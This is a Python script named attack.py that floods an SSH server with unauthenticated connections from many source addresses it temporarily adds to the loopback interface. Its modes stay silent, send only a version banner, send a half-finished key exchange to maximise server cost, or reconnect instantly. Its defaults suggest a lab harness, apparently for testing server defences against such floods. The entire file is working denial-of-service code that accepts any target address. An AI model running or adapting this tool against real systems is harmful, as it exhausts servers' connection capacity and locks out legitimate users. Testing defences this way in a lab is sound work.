"""attack.py MODE ADDRESSES EACH SECONDS [TARGET [FIRST [STEP]]]: clients without a key, from many addresses of this machine.

EACH connections from each of ADDRESSES addresses (FIRST, FIRST + STEP, …; put on `lo`, taken away at the end) to TARGET:22. MODE:
  silent   connects and says nothing
  banner   sends its version line and stops
  kex      goes half the way through the key exchange and stops: what costs the server most
  hasty    begins again as soon as the server has answered
With `+` behind it (`silent+`) a connection that the server closed is begun again at once; else nobody looks at it any more. With
`!` also one that is not answered within a second: an attacker does not wait as an ordinary system does.
Prints `ready` when each connection was tried, and counts when SECONDS are over or its input ends.
"""

import os
import selectors
import socket
import struct
import subprocess
import sys
import time

mode, addresses, each, seconds = sys.argv[1].rstrip("+!"), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
eager = sys.argv[1].endswith("!")
persistent = sys.argv[1].endswith("+") or eager or mode == "hasty"
target, first, step = (*sys.argv[5:8], *("10.0.0.2", "198.18.0.1", "1")[len(sys.argv) - 5 :])

BANNER = b"SSH-2.0-OpenSSH_9.9\r\n"


def packet(payload):
    """RFC 4253, section 6, before encryption."""
    padding = 8 - (len(payload) + 5) % 8
    padding += 8 if padding < 4 else 0
    return struct.pack(">IB", len(payload) + padding + 1, padding) + payload + bytes(padding)


def name_list(names):
    return struct.pack(">I", len(names)) + names


def half_exchange():
    lists = [
        b"curve25519-sha256",
        b"ssh-ed25519",
        *[b"aes128-ctr"] * 2,
        *[b"hmac-sha2-256"] * 2,
        *[b"none"] * 2,
        b"",
        b"",
    ]
    start = b"\x14" + os.urandom(16) + b"".join(map(name_list, lists)) + b"\0" + bytes(4)
    return BANNER + packet(start) + packet(b"\x1e" + name_list(os.urandom(32)))


def source(number):
    base = struct.unpack(">I", socket.inet_aton(first))[0]
    return socket.inet_ntoa(struct.pack(">I", base + number * int(step)))


def addresses_on(verb):
    lines = "".join(f"address {verb} {source(n)}/32 dev lo\n" for n in range(addresses))
    subprocess.run(["ip", "-force", "-batch", "-"], input=lines, text=True, check=False, capture_output=True)


counts = {"tried": 0, "open": 0, "closed": 0}
selector = selectors.DefaultSelector()
half_closed = []
words = {"banner": BANNER, "kex": half_exchange()}.get(mode, b"")


def begin(address):
    s = socket.socket()
    s.setblocking(False)
    # Closed without a word of farewell.
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.bind((address, 0))
    s.connect_ex((target, 22))
    counts["tried"] += 1
    selector.register(s, selectors.EVENT_WRITE, (address, time.monotonic()))


def again(s, address):
    selector.unregister(s)
    s.close()
    begin(address)


def on_event(s, address, events):
    if events & selectors.EVENT_WRITE:
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            return again(s, address)
        counts["open"] += 1
        s.send(words)
        return selector.modify(s, selectors.EVENT_READ, (address, 0))
    try:
        data = s.recv(65536)
    except OSError:
        data = b""
    if not data:
        counts["closed"] += 1
    if mode == "hasty" or (persistent and not data):
        again(s, address)
    elif not data:
        # The server has closed its half; ours stays.
        selector.unregister(s)
        half_closed.append(s)


def give_up_unanswered():
    late = time.monotonic() - 1
    for key in list(selector.get_map().values()):
        if key.data and key.events == selectors.EVENT_WRITE and key.data[1] < late:
            again(key.fileobj, key.data[0])


def main():
    addresses_on("add")
    try:
        for number in range(addresses * each):
            begin(source(number % addresses))
        print("ready", flush=True)
        deadline = time.monotonic() + seconds
        selector.register(sys.stdin, selectors.EVENT_READ)
        while time.monotonic() < deadline:
            for key, events in selector.select(timeout=0.5):
                if key.fileobj is not sys.stdin:
                    on_event(key.fileobj, key.data[0], events)
                elif not os.read(0, 100):
                    return
            if eager:
                give_up_unanswered()
    finally:
        for s in [key.fileobj for key in selector.get_map().values()] + half_closed:
            s.close()
        addresses_on("del")
        print(" ".join(f"{name}={count}" for name, count in counts.items()), flush=True)


main()
